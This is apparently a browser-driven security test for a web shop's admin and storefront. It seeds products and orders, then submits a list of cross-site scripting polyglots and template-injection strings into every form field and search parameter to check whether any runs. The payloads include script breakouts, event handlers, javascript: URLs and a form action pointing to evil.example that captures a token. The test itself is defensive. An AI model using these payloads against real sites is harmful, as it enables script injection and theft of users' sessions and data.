// Hostile texts in every text field: each is shown as the text that it is, and none of them runs (WEB-04).
import { discover } from "./crawl.mjs";
import { fill, formsOf, send } from "./forms.mjs";
import { signIn, visitor } from "./look.mjs";
import { Report } from "./report.mjs";

/** What a text calls where it runs. */
const RAN = "tillRan";

// Each breaks out of another place: text, a quoted or bare attribute, a script, a style, a comment, a title, a template.
const TEXTS = [
  `<script>${RAN}()</script>`,
  `"><script>${RAN}()</script>`,
  `'><img src=x onerror=${RAN}()>`,
  `<img src=x onerror="${RAN}()">`,
  `<svg onload=${RAN}()>`,
  `<svg><script>${RAN}()</script></svg>`,
  `<svg/onload=&#116;illRan()>`,
  `" onmouseover="${RAN}()" autofocus onfocus="${RAN}()" x="`,
  `' autofocus onfocus='${RAN}()' x='`,
  ` autofocus onfocus=${RAN}() x=`,
  `javascript:${RAN}()`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RAN}() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RAN}()//>\\x3e`,
  `</textarea><script>${RAN}()</script>`,
  `</title><script>${RAN}()</script>`,
  `</style><script>${RAN}()</script>`,
  `</script><script>${RAN}()</script>`,
  `--><script>${RAN}()</script><!--`,
  `<!--<img src="--><img src=x onerror=${RAN}()//">`,
  `<iframe srcdoc="<script>parent.${RAN}()</script>">`,
  `<iframe src="javascript:parent.${RAN}()">`,
  `<details open ontoggle=${RAN}()>`,
  `<input autofocus onfocus=${RAN}()>`,
  `<body onload=${RAN}()>`,
  `<object data="data:text/html,<script>opener.${RAN}()</script>">`,
  `<math><mi//xlink:href="data:x,<script>${RAN}()</script>">`,
  `<style>@import'x';</style><style onload=${RAN}()>`,
  `<base href="javascript:/a/-${RAN}()//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RAN}()">`,
  `{{constructor.constructor('${RAN}()')()}}\${${RAN}()}<%= ${RAN}() %>#{${RAN}()}`,
  `\u202e<script>${RAN}()</script>\u202c 🎁 \u0301`,
  `%3Cscript%3E${RAN}()%3C/script%3E&lt;script&gt;${RAN}()&lt;/script&gt;`,
  `\\"-${RAN}()//\\u003cscript\\u003e${RAN}()\\u003c/script\\u003e`,
  `<a href="data:text/html,<script>${RAN}()</script>" id=main name=form_token>`,
  `<form action=//evil.example id=find><input name=form_token>`,
];
/** Who sells in the demo. */
const SELLER = { name: "demo", password: "demotest" };
/** Pages on which hostile texts that were kept are shown are opened again at the end, each form's own after each. */
const KEPT = /note|reason|name|description|title|tag|words|text|subject|body|question|comment/;

export async function polyglots(browser, shop) {
  const report = new Report("polyglots");
  const page = await visitor(browser, shop);
  let ran = "";
  await page.context().exposeFunction(RAN, () => report.fault(ran, "a text ran"));
  page.on("dialog", (dialog) => dialog.dismiss());
  await signIn(page, shop.owner);
  const spare = await seed(shop);
  const { addresses } = await discover(page, shop);
  let sent = 0;
  for (const { form, address } of await collect(page, addresses)) {
    let at = address;
    for (const typed of attempts(form)) {
      ran = `${form.action} ${Object.keys(typed)}`;
      sent += 1;
      let here = await find(page, at, form);
      if (!here) {
        // What was canceled cannot be canceled again, nor is what was paid out still due: it goes on with another order.
        const order = spare.shift();
        if (/^\/admin\/orders\/\d/.test(at)) at = at.replace(/\d+/, order);
        if (at.startsWith("/admin/commissions")) await deliver(shop, order);
        here = await find(page, at, form);
      }
      if (!here) { report.fault(ran, "the form is gone"); break; }
      const reply = await send(page, shop, here.action, await fill(page, here, typed));
      if (reply.status >= 500) report.fault(ran, `answers ${reply.status}`);
      // What it answers is drawn under the same policy, at an address of the same place.
      if (reply.status !== 303) await draw(page, reply);
    }
  }
  const searched = addresses.filter(({ row, address }) => !row.path.includes("{") && !address.includes("?"));
  for (const { address } of searched) {
    await page.goto(address);
    const names = await page.$$eval("form:not([method=post]) :is(input:not([type]), input[type=search])", (all) => all.map((el) => el.name));
    for (const [at, text] of TEXTS.entries()) {
      if (!names.length) break;
      ran = `${address} ${names[at % names.length]}`;
      sent += 1;
      await page.goto(`${address}?${new URLSearchParams({ [names[at % names.length]]: text })}`);
    }
  }
  ran = "what was kept";
  for (const { address } of (await discover(page, shop)).addresses) await page.goto(address);
  // A search for nothing may refuse (400): only what ran or was blocked counts here.
  report.faultsAt("the pages", page.faults.filter((fault) => !fault.includes("Failed to load")));
  return report.close(`${TEXTS.length} texts, ${sent} times sent`);
}

/** What came in by another road: products of a seller's and orders with such names and notes; the orders. */
async function seed(shop) {
  const orders = [];
  for (const [at, text] of TEXTS.entries()) {
    const sku = `HOSTILE-${at}`;
    const { id } = await shop.post("/products", { name: text, description: text, sku, price: "1.00", quantity: 9 }, SELLER);
    await shop.post(`/products/${id}/approve`, {}, shop.owner);
    const order = () => shop.post("/orders", { items: [{ sku, quantity: 1 }], note: text }, shop.owner);
    // One to cancel, one to deliver.
    orders.push((await order()).id, (await order()).id);
  }
  return orders;
}

/** Pays an order, and brings it to its end: its seller's commission is due then. */
async function deliver(shop, order) {
  await shop.post("/payments/manual", { order_id: order }, shop.owner);
  for (const status of ["shipped", "delivered"]) {
    const [{ version }] = shop.sql(`select version from orders where id = ${order}`);
    await shop.post(`/orders/${order}/status`, { status, version }, shop.owner, "PATCH");
  }
}

/** The same form on the page at an address, perhaps of another thing. */
async function find(page, address, form) {
  await page.goto(address);
  return (await formsOf(page)).find((other) => kindOf(other) === kindOf(form));
}

/** A form by where it leads and what it asks for; a row more or less of the same fields is the same form. */
const kindOf = ({ action, texts }) =>
  `${action.replace(/\d+/g, "#")} ${[...new Set(texts.map((name) => name.replace(/\d+/g, "#")))].sort()}`;

/** The forms with text fields, each once. */
async function collect(page, addresses) {
  const found = new Map();
  for (const { address, row } of addresses) {
    await page.goto(address);
    for (const form of await formsOf(page)) {
      const kind = `${row.path} ${kindOf(form)}`;
      if (form.texts.length && !found.has(kind)) found.set(kind, { form, address });
    }
  }
  return [...found.values()];
}

/** Every text in all fields at once, each field with another; then alone in the fields that would keep it. */
function attempts({ texts }) {
  const together = TEXTS.map((_, at) => Object.fromEntries(texts.map((name, nth) => [name, TEXTS[(at + nth) % TEXTS.length]])));
  const alone = texts.filter((name) => texts.length > 1 && KEPT.test(name));
  return [...together, ...alone.flatMap((name) => TEXTS.map((text) => ({ [name]: text })))];
}

async function draw(page, reply) {
  const at = `${new URL(page.url()).origin}/drawn`;
  const headers = { "content-type": reply.headers["content-type"], "content-security-policy": reply.headers["content-security-policy"] };
  await page.route(at, (route) => route.fulfill({ status: 200, headers, body: reply.body }));
  await page.goto(at);
  await page.unroute(at);
}
